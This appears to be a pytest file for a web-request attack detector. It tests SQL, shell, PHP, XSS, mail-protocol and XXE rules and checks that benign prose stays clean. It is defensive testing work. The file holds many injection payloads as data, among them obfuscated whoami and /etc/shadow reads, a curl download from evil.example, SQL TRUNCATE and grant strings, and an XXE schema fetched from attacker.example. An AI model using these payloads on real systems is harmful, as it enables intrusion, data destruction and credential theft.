"""Attack classes and decodings added for coverage: each with a self-written example and the prose that must stay clean."""
from __future__ import annotations

import re

import pytest

from sensor.detect import THRESHOLD, code, rce, sqli, xss
from tests.detect.conftest import req


def types(hits, floor: float = THRESHOLD) -> set[str]:
    return {h.type for h in hits if h.score >= floor}


def rules(hits, floor: float = THRESHOLD) -> set[str]:
    return {h.rule for h in hits if h.score >= floor}


def flagged(f) -> bool:
    return f is not None and f.score >= THRESHOLD


# --- SQL: tokenizer contexts and statement forms
@pytest.mark.parametrize("v,rule", [
    ("name'COLLATE latin1_bin#", "sqli:quote_collate"),             # leave the quote, add a collation clause
    ("x`COLLATE `utf8_bin`/*", "sqli:quote_collate"),              # same from a backtick identifier
    ("'abc' not like 'abd'", "sqli:string_compare"),              # NOT <op> between two literals
    ("b=\"b\" or#", "sqli:logic_comment"),                          # right side of OR cut off by a comment
    ("42 or /*+ INDEX(t) */ 1", "sqli:logic_tautology"),          # optimizer hint is a comment, not code
    ("col`; drop", "sqli:quote_stacked"),                          # backtick identifier closed, then `;`
    ("TR/**/UNCATE/*x*/orders", "sqli:ddl"),                      # comment splitting a keyword, another separating
    ("exec sp_who2", "sqli:exec"),
    ("EXEC refresh_cache", "sqli:exec_procedure"),                # whole value is a T-SQL statement
    ("execute immediate 'grant dba to x'", "sqli:exec_immediate"),
    ("2 intersect select 1", "sqli:union_select"),
    ("0 except values (7,8)", "sqli:union_values"),
    ("; replace/**/accounts (id, pw) values (1, 'x')", "sqli:insert"),
    ("lo_get(9000)", "sqli:function"),
    ("cos(0)", "sqli:function"),
    ("ts::timestamp", "sqli:pg_cast"),
    ("select dbms_lock.sleep", "sqli:select_expr"),
    ("3.e(char(65))", "sqli:scientific_notation"),                # MySQL reads 3.e as a number
    ("\"')", "sqli:quote_probe"),
    ("xp_dirtree", "sqli:keyword"), ("'sqloledb'", "sqli:keyword"), ("dbms_ldap", "sqli:keyword"),
])
def test_sql_forms(v, rule):
    f = sqli.analyze(v)
    assert flagged(f) and f.rule == rule, (v, f)


@pytest.mark.parametrize("v", [
    "replace the filter (quickly)", "everything except the values (a, b)", "select sleep mode", "div class",
    "180 degrees (a right angle twice)", "execute order 66 now", "the tan (colour) jacket",
])
def test_sql_prose_stays_clean(v):
    assert not flagged(sqli.analyze(v)), (v, sqli.analyze(v))


def test_acute_accent_folds_to_a_quote_before_nfkc(engine):
    # NFKC would turn U+00B4 into a space and a combining mark; charsets that fold it to ' make it a breakout
    assert "sqli" in types(engine.inspect(req("/?id=5%C2%B4%20or%20%C2%B4a%C2%B4=%C2%B4a")))


def test_encoded_equals_in_a_name_is_split_and_inspected(engine):
    # `q%3D%7C%7C(1%3D1)` arrives as the parameter *name* "q=||(1=1)": the part after '=' is the payload
    hits = engine.inspect(req("/p", "POST", [("Content-Type", "application/x-www-form-urlencoded")], b"q%3D%7C%7C%28x%3D%211%29"))
    assert any(h.type == "sqli" and h.point[-1] == "=" for h in hits if h.score >= THRESHOLD), hits


def test_form_body_cut_at_its_own_equals_is_inspected_whole(engine):
    body = b"%27guest%27%2C+%27a%27=%27a%27"  # 'guest', 'a'='a' : the parser sees name "'guest', 'a'"
    hits = engine.inspect(req("/p", "POST", [("Content-Type", "application/x-www-form-urlencoded")], body))
    assert any(h.point == ["post", "form_urlencoded", "#raw"] and h.type == "sqli" for h in hits), hits
    plain = engine.inspect(req("/p", "POST", [("Content-Type", "application/x-www-form-urlencoded")], b"a=1&b=two+words"))
    assert not any(h.point[-1] == "#raw" for h in plain)


def test_orm_lookup_in_a_plain_parameter_name(engine):
    assert "nosqli" in types(engine.inspect(req("/users?account__owner__email__endswith=corp.example")))
    assert types(engine.inspect(req("/users?page_size=10&sort__by=name"))) == set()


# --- shell: expansions the shell performs before running a word
@pytest.mark.parametrize("v,rule", [
    ("u=who;v=ami;$u$v", "rce:chained_command"),                  # variables assigned then concatenated
    ("k1=/e;k2=tc/sh;k3=adow;x=\\ ;le$x$k1$k2$k3", None),          # substitution must not crash on escapes
    ("&& $nothing id -a", "rce:leading_separator"),                 # an unset variable word expands to nothing
    ("x; ba$q${r}sh -c uname", "rce:nested_command"),              # unset variables inside a word
    ("; eval 'uname -a'", "rce:nested_command"),
    ("zsh -c 'curl -o /tmp/x evil.example'", "rce:nested_command"),
    ("w{h,}o", "rce:brace_expansion"),                              # w{h,}o -> who wo: `who` runs
    ("{,$'id',}", "rce:brace_expansion"),                           # ANSI-C quoting inside braces
    ("~-", "rce:tilde_expansion"), ("~+2", "rce:tilde_expansion"),
    ("x !-3", "rce:history_expansion"),
    ("pip install requests2", "rce:package_manager"),
    ("| icacls/t x", "rce:leading_separator"),                      # cmd.exe switch glued to the command name
    ("%0a\\n.output /tmp/x", None),
])
def test_shell_forms(v, rule):
    f = rce.analyze(v)
    if rule is None:
        assert f is None or 0.0 <= f.score <= 1.0
    else:
        assert flagged(f) and f.rule == rule, (v, f)


@pytest.mark.parametrize("v", [
    "{red,green,blue}", "price ~ 5 EUR", "wow!! nice", "net/http", "US$ figures", "a=b; c=d", "ip address lookup",
    "install the app", "tilde ~ sign",
])
def test_shell_prose_stays_clean(v):
    assert not flagged(rce.analyze(v)), (v, rce.analyze(v))


def test_shell_leading_separator_with_a_path_argument():
    assert flagged(rce.analyze("| head /srv/app/config.yml"))
    assert not flagged(rce.analyze("& more ideas"))


# --- code, markup, protocols
@pytest.mark.parametrize("target,rule", [
    ("/?x=page%3C%3F", "php:open_tag_end"),
    ("/?x=%3C%3Fxml%20%3Aprint%20phpversion()%3B", "php:xml_polyglot"),
    ("/?s=%22%243%3Aconstructor%3Aconstructor%22", "node:rsc_prototype_walk"),
    ("/?m=%0D%0AHELO%20mx.example", "mail:smtp_command"),
    ("/?m=%0D%0AA1%20AUTHENTICATE%20XOAUTH2", "mail:imap_command"),
    ("/?v=%22%20formaction%3Djavascript%3Ax", "xss:attribute_breakout"),
    ("/?c=--%3E", "xss:comment_breakout"),
])
def test_code_and_markup_rules(engine, target, rule):
    assert rule in rules(engine.inspect(req(target))), (target, engine.inspect(req(target)))


def test_php_variable_call_with_comments_between_indices():
    rx = next(r for name, _, r in code.RULES if name == "php:variable_call")
    assert re.search(rx, '$fn /*a*/ [0] #c\n ("id")', re.I | re.S)
    assert re.search(rx, "$f[1]//x\n\t['k'] /* y */ (7)", re.I | re.S)
    assert not re.search(rx, "costs $5 (approx)", re.I | re.S)


def test_remote_xml_schema_is_xxe(engine):
    body = (b'<r xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
            b'xsi:schemaLocation="urn:x http://attacker.example/x.xsd"/>')
    hits = engine.inspect(req("/p", "POST", [("Content-Type", "application/x-www-form-urlencoded")], b"doc=" + body))
    assert "xxe:remote_schema" in rules(hits)


@pytest.mark.parametrize("v", ["a --> b", "<?xml version=\"1.0\"?><a/>", "see you <3 ?", "formaction is an attribute"])
def test_markup_prose_stays_clean(v):
    assert not flagged(xss.analyze(v)), (v, xss.analyze(v))
